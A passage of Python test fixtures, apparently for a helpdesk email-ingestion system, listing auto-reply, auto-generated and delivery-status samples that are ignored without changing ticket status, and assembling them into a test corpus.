        "x-autorespond-precedence-auto-reply",
        x_autorespond,
        IGNORED,
        target="open",
        status_after="open",
    ),
    Sample("auto-generated", auto_generated, IGNORED, target="open", status_after="open"),
    Sample(
        "delivery-status-notification",
        delivery_report,
        IGNORED,
        target="closed",
        status_after="closed",
    ),
]

CORPUS: list[Sample] = CHARSETS + STRUCTURE + BROKEN + REPLIES + AUTOMATIC
